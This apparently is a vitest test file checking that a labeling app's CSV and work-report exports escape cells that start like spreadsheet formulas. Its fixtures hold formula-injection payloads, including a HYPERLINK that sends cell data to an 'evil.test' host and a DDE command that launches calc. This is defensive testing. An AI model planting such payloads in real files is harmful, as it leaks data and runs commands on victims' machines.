import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createTestEnv, type Client, type TestEnv } from './test/harness.js';
import { giveRow } from './test/fixtures-final.js';
import { insertRows } from './repos/rows.js';

let env: TestEnv;
let lead: Client;
beforeEach(async () => {
  env = await createTestEnv();
  await env.user('lead@x.org', { name: 'Lea Lead', admin: true });
  lead = await env.login('lead@x.org');
});
afterEach(async () => env.close());

// Every start OWASP lists, each from a different source, and one formula spread over two lines.
const FORMULA = {
  answer: '=HYPERLINK("http://evil.test/?"&A1,"Click")\nsecond line',
  answer2: '\tTabbed',
  data: "+cmd|' /C calc'!A0",
  data2: '\r=1+1',
  externalId: '@SUM(1,2)',
  label: '-neg',
  labeler: '=2+5',
  labeler2: '@name',
};

const schema = [
  { id: 'sentiment', type: 'classification', title: 'Sentiment', config: { field: 'delta', labels: ['pos', FORMULA.label] } },
  { id: 'summary', type: 'text', title: 'Summary', config: { field: 'text' } },
];

async function exported(format: string) {
  const pid = (await lead.post('/api/projects', { name: 'Formulas', schema })).body.project.id as number;
  const [u1, u2] = [await env.user('a@x.org', { name: FORMULA.labeler }), await env.user('b@x.org', { name: FORMULA.labeler2 })];
  const [r1, r2] = await insertRows(env.deps.db, pid, [
    { externalId: FORMULA.externalId, data: { text: FORMULA.data, delta: -5 } },
    { externalId: 'plain', data: { text: FORMULA.data2, delta: 3 } },
  ], env.clock.now);
  const answer = (text: string) => ({ sentiment: { labels: [FORMULA.label] }, summary: { text } });
  for (const [rowId, text] of [[r1, FORMULA.answer], [r2, FORMULA.answer2]] as const) {
    await giveRow(env.deps.db, { projectId: pid, rowId, labels: [{ userId: u1, answer: answer(text) }, { userId: u2, answer: answer(text) }], final: { answer: answer(text), source: 'consensus' } });
  }
  const r = await lead.raw(`/api/projects/${pid}/exports?format=${format}`);
  expect(r.status).toBe(200);
  const csv = (await r.text()).replace(/^\uFEFF/, '');
  const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return { csv, rows: parsed.data };
}

describe('CSV exports cannot run formulas in a spreadsheet', () => {
  it('answers, row data, external ids, labels and names that start like a formula become quoted text with a leading quote', async () => {
    const { csv, rows } = await exported('csv');
    const [a, b] = rows;
    expect(a).toMatchObject({
      external_id: `'${FORMULA.externalId}`,
      'data.text': `'${FORMULA.data}`,
      summary: `'${FORMULA.answer}`,
      sentiment: `'${FORMULA.label}`,
      labelers: `'${FORMULA.labeler}|${FORMULA.labeler2}`,
    });
    expect(b).toMatchObject({ 'data.text': `'${FORMULA.data2}`, summary: `'${FORMULA.answer2}` });
    // Quoted as well as prefixed, so the quote is part of the cell's text.
    expect(csv).toContain(`"'${FORMULA.answer.replace(/"/g, '""')}"`);
    // Whole data stays JSON (it starts with a brace), and numbers stay numbers, the negative one included.
    expect(JSON.parse(a.data)).toEqual({ text: FORMULA.data, delta: -5 });
    expect(a['data.delta']).toBe('-5');
    expect(a.row_id).toMatch(/^\d+$/);
    expect(a['sentiment.agreement']).toBe('1');
    // No text cell of the file starts with a formula character any more (-5 is the number above).
    for (const row of rows) for (const [k, v] of Object.entries(row)) if (k !== 'data.delta') expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the work report neutralises people\'s names', async () => {
    const { rows } = await exported('workreport');
    expect(rows.map((r) => r.name).sort()).toEqual([`'${FORMULA.labeler2}`, `'${FORMULA.labeler}`].sort());
    for (const row of rows) for (const v of Object.values(row)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });
});
